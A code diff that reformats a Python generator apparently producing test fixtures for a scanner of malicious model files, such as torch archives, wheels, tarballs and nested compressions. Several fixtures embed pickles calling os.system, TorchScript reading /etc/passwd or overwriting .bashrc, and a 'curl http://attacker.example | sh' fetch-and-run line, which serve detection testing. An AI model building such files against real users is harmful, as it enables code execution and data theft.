@@ -14,7 +14,6 @@ from collections.abc import Iterator, Mapping
 
 import lz4.frame
 import zstandard
-
 from integrity.inspect.corpus.assembler import call, glob, stack_glob, stream, system, text
 from integrity.inspect.corpus.pickles import tarred
 
@@ -34,14 +33,37 @@ def zipped(members: Mapping[str, bytes], method: int = zipfile.ZIP_STORED, comme
 def local(name: bytes, content: bytes, method: int = 0, flags: int = 0, size: int | None = None) -> bytes:
     """A local file header with its content; `size` states another packed size than the true one."""
     stated = len(content) if size is None else size
-    return struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, flags, method, 0, 0, zlib.crc32(content), stated, stated, len(name), 0) + name + content
+    return (
+        struct.pack(
+            "<4sHHHHHIIIHH", b"PK\x03\x04", 20, flags, method, 0, 0, zlib.crc32(content), stated, stated, len(name), 0
+        )
+        + name
+        + content
+    )
 
 
 def central(name: bytes, content: bytes, at: int, method: int = 0, flags: int = 0, size: int | None = None) -> bytes:
     stated = len(content) if size is None else size
     return (
         struct.pack(
-            "<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, flags, method, 0, 0, zlib.crc32(content), stated, stated, len(name), 0, 0, 0, 0, 0, at
+            "<4sHHHHHHIIIHHHHHII",
+            b"PK\x01\x02",
+            20,
+            20,
+            flags,
+            method,
+            0,
+            0,
+            zlib.crc32(content),
+            stated,
+            stated,
+            len(name),
+            0,
+            0,
+            0,
+            0,
+            0,
+            at,
         )
         + name
     )
@@ -76,17 +98,47 @@ def zips() -> Iterator[tuple[str, bytes]]:
     yield "torch_no_root.pt", zipped({"data.pkl": _HARM})
     yield "torch_other_pickle.pt", zipped({"archive/data.pkl": _CALM, "archive/extra/data.pkl": _HARM})
     yield "torch_storage_is_pickle.pt", zipped({"archive/data.pkl": _CALM, "archive/data/0": _HARM})
-    yield "torch_constants.pt", zipped({"m/data.pkl": _CALM, "m/constants.pkl": _HARM, "m/code/__torch__.py": b"x: int\n"})
-    yield "torch_mobile.ptl", zipped({"m/data.pkl": _CALM, "m/bytecode.pkl": _HARM, "m/mobile_debug_handles.pkl": _HARM})
-    yield "torch_package.pt", zipped({"p/.data/extern_modules": b"", "p/m/model.pkl": _CALM, "p/m/evil.py": b"import os\nos.system('id')\n"})
-    yield "torchscript_reads_file.pt", zipped(
-        {"m/data.pkl": _CALM, "m/constants.pkl": _CALM, "m/code/__torch__.py": b"def forward(self):\n  return torch.from_file('/etc/passwd', True, 1)\n"}
+    yield (
+        "torch_constants.pt",
+        zipped({"m/data.pkl": _CALM, "m/constants.pkl": _HARM, "m/code/__torch__.py": b"x: int\n"}),
     )
-    yield "torchscript_save.pt", zipped(
-        {"m/data.pkl": _CALM, "m/constants.pkl": _CALM, "m/code/__torch__.py": b"def forward(self, x):\n  torch.save(x, '/home/user/.bashrc')\n  return x\n"}
+    yield (
+        "torch_mobile.ptl",
+        zipped({"m/data.pkl": _CALM, "m/bytecode.pkl": _HARM, "m/mobile_debug_handles.pkl": _HARM}),
     )
-    yield "torchscript_ops.pt", zipped(
-        {"m/data.pkl": _CALM, "m/constants.pkl": _CALM, "m/code/__torch__/net.py": b"def forward(self, x):\n  return ops.evil.run(x)\n"}
+    yield (
+        "torch_package.pt",
+        zipped({"p/.data/extern_modules": b"", "p/m/model.pkl": _CALM, "p/m/evil.py": b"import os\nos.system('id')\n"}),
+    )
+    yield (
+        "torchscript_reads_file.pt",
+        zipped(
+            {
+                "m/data.pkl": _CALM,
+                "m/constants.pkl": _CALM,
+                "m/code/__torch__.py": b"def forward(self):\n  return torch.from_file('/etc/passwd', True, 1)\n",
+            }
+        ),
+    )
+    yield (
+        "torchscript_save.pt",
+        zipped(
+            {
+                "m/data.pkl": _CALM,
+                "m/constants.pkl": _CALM,
+                "m/code/__torch__.py": b"def forward(self, x):\n  torch.save(x, '/home/user/.bashrc')\n  return x\n",
+            }
+        ),
+    )
+    yield (
+        "torchscript_ops.pt",
+        zipped(
+            {
+                "m/data.pkl": _CALM,
+                "m/constants.pkl": _CALM,
+                "m/code/__torch__/net.py": b"def forward(self, x):\n  return ops.evil.run(x)\n",
+            }
+        ),
     )
     yield "crc_broken.pt", _with_crc_broken(torch)
     yield "prefix.pt", b"#!/bin/sh\nexit 0\n" + torch
@@ -109,7 +161,10 @@ def zips() -> Iterator[tuple[str, bytes]]:
     yield "overlapping.pt", _overlapping()
     yield "encrypted_flag.pt", by_hand((b"archive/data.pkl", _HARM), flags=1)
     yield "strong_encryption_flag.pt", by_hand((b"archive/data.pkl", _HARM), flags=0x41)
-    yield "encrypted_truly.zip", by_hand((b"archive/data.pkl", bytes(range(12)) + bytes(b ^ 0x5A for b in _HARM)), flags=1)
+    yield (
+        "encrypted_truly.zip",
+        by_hand((b"archive/data.pkl", bytes(range(12)) + bytes(b ^ 0x5A for b in _HARM)), flags=1),
+    )
     yield "aes.zip", by_hand((b"archive/data.pkl", bytes(range(40))), method=99, flags=1)
     yield "method_unknown.zip", by_hand((b"archive/data.pkl", _HARM), method=250)
     yield "method_deflate64.zip", by_hand((b"archive/data.pkl", _HARM), method=9)
@@ -131,7 +186,10 @@ def zips() -> Iterator[tuple[str, bytes]]:
     yield "name_as_text.zip", zipped({"README.md": _HARM})
     yield "name_directory.zip", by_hand((b"archive/data.pkl/", _HARM))
     yield "name_nul.zip", by_hand((b"data.pkl\x00.txt", _HARM))
-    yield "wheel.whl", zipped({"evil/__init__.py": b"import os\nos.system('id')\n", "evil-1.0.dist-info/METADATA": b"Name: evil\n"})
+    yield (
+        "wheel.whl",
+        zipped({"evil/__init__.py": b"import os\nos.system('id')\n", "evil-1.0.dist-info/METADATA": b"Name: evil\n"}),
+    )
     for name, method in (("bzip2", zipfile.ZIP_BZIP2), ("lzma", zipfile.ZIP_LZMA), ("deflated", zipfile.ZIP_DEFLATED)):
         yield f"method_{name}.zip", zipped({"a.pkl": _HARM}, method)
     yield "method_zstd.zip", _packed_zip(zstandard.ZstdCompressor().compress(_HARM), 93)
@@ -223,11 +281,24 @@ def compressions() -> Iterator[tuple[str, bytes]]:
     yield "lz4_two.pkl.lz4", lz4.frame.compress(_CALM) + lz4.frame.compress(_HARM)
     yield "zip_in_tar_zst.tar.zst", zstandard.ZstdCompressor().compress(tarred({"m/a.zip": torch}))
     yield "tar_in_zip_in_gz.gz", gzip.compress(zipped({"a.tar": tarred({"m.pkl": _HARM})}), mtime=0)
-    yield "six_levels.bin", gzip.compress(bz2.compress(lzma.compress(zlib.compress(zipped({"a": gzip.compress(_HARM, mtime=0)})))), mtime=0)
+    yield (
+        "six_levels.bin",
+        gzip.compress(
+            bz2.compress(lzma.compress(zlib.compress(zipped({"a": gzip.compress(_HARM, mtime=0)})))), mtime=0
+        ),
+    )
     yield "no_extension_gz", gzip.compress(_HARM, mtime=0)
     yield "named_txt.txt", gzip.compress(_HARM, mtime=0)
-    yield "stack_global_in_zip.tar.gz", gzip.compress(tarred({"m.zip": zipped({"x": stream(call(stack_glob("os", "system"), text("id")))})}), mtime=0)
-    yield "protocol0_in_all.tar.zst", zstandard.ZstdCompressor().compress(tarred({"m.zip": zipped({"x": b"Vposix\nVsystem\n\x93(Vid\ntR."}, zipfile.ZIP_LZMA)}))
+    yield (
+        "stack_global_in_zip.tar.gz",
+        gzip.compress(tarred({"m.zip": zipped({"x": stream(call(stack_glob("os", "system"), text("id")))})}), mtime=0),
+    )
+    yield (
+        "protocol0_in_all.tar.zst",
+        zstandard.ZstdCompressor().compress(
+            tarred({"m.zip": zipped({"x": b"Vposix\nVsystem\n\x93(Vid\ntR."}, zipfile.ZIP_LZMA)})
+        ),
+    )
 
 
 def tars() -> Iterator[tuple[str, bytes]]:
@@ -242,7 +313,10 @@ def tars() -> Iterator[tuple[str, bytes]]:
     yield "device.tar", _tar_link(tarfile.CHRTYPE)
     yield "size_lies.tar", _tar_size_lies()
     yield "named_nemo.nemo", tarred({"./model_config.yaml": b"target: os.system\n", "./model_weights.ckpt": _HARM})
-    yield "named_nemo_gz.nemo", gzip.compress(tarred({"model_config.yaml": b"a: 1\n", "model_weights.ckpt": _torch()}), mtime=0)
+    yield (
+        "named_nemo_gz.nemo",
+        gzip.compress(tarred({"model_config.yaml": b"a: 1\n", "model_weights.ckpt": _torch()}), mtime=0),
+    )
     yield "v7.tar", _tar_v7()
     yield "pax_path.tar", _tar_pax()
     yield "sparse.tar", _tar_sparse()
@@ -298,7 +372,12 @@ def _tar_sparse() -> bytes:
 
 
 def executables() -> Iterator[tuple[str, bytes]]:
-    yield "llamafile.llamafile", b"MZqFpD='\n" + bytes(2000) + zipped({".args": b"-m\nmodel.gguf\n", "model.gguf": b"GGUF" + bytes(20), "m.pkl": _HARM})
+    yield (
+        "llamafile.llamafile",
+        b"MZqFpD='\n"
+        + bytes(2000)
+        + zipped({".args": b"-m\nmodel.gguf\n", "model.gguf": b"GGUF" + bytes(20), "m.pkl": _HARM}),
+    )
     yield "elf_named.bin", b"\x7fELF\x02\x01\x01" + bytes(4000)
     yield "pe_named.safetensors", b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\x00\x00" + bytes(500)
     yield "shell_named.pt", b"#!/bin/sh\ncurl http://attacker.example | sh\n"
@@ -306,7 +385,10 @@ def executables() -> Iterator[tuple[str, bytes]]:
     yield "seven.7z", b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(60)
     yield "rar.rar", b"Rar!\x1a\x07\x01\x00" + bytes(60)
     yield "seven_as_pickle.pkl", b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(60)
-    yield "elf_in_zip.pt", zipped({"archive/data.pkl": _CALM, "archive/lib/evil.so": b"\x7fELF\x02\x01\x01" + bytes(400)})
+    yield (
+        "elf_in_zip.pt",
+        zipped({"archive/data.pkl": _CALM, "archive/lib/evil.so": b"\x7fELF\x02\x01\x01" + bytes(400)}),
+    )
     yield "pth_in_zip.pt", zipped({"archive/data.pkl": _CALM, "site-packages/x.pth": b"import os;os.system('id')\n"})
     yield "computed_global.bin", stream(call(glob("builtins", "chr"), b"K\x70") + text("system") + b"\x93" + b")R")
 
